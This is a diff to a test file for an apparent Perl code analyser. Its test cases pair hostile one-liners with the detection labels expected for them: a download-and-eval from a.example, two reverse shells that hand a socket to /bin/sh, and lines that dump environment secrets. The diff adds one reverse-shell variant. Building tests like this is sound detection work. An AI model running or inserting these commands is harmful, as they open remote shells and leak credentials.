@@ -31,7 +31,11 @@ describe('Perl', () => {
     ['use LWP::Simple; eval get("https://a.example/x.pl")', ['net.request a.example', 'code.eval downloaded']],
     [
       'use IO::Socket; $s = IO::Socket::INET->new(PeerAddr => "a.example:1"); open(STDIN, ">&", $s); exec("/bin/sh", "-i")',
-      ['net.request a.example raw-socket,reverse-shell', 'argv /bin/sh -i'],
+      ['net.request a.example raw-socket,reverse-shell', 'exec /bin/sh interactive', 'argv /bin/sh -i'],
+    ],
+    [
+      '$c = new IO::Socket::INET(PeerAddr, "a.example:1"); STDIN->fdopen($c, r); system $_ while <>',
+      ['net.request a.example raw-socket,reverse-shell', 'exec … dynamic'],
     ],
     ['print %ENV', ['secret.dump environment']],
     ['print $ENV{API_TOKEN}', ['secret.read API_TOKEN environment']],
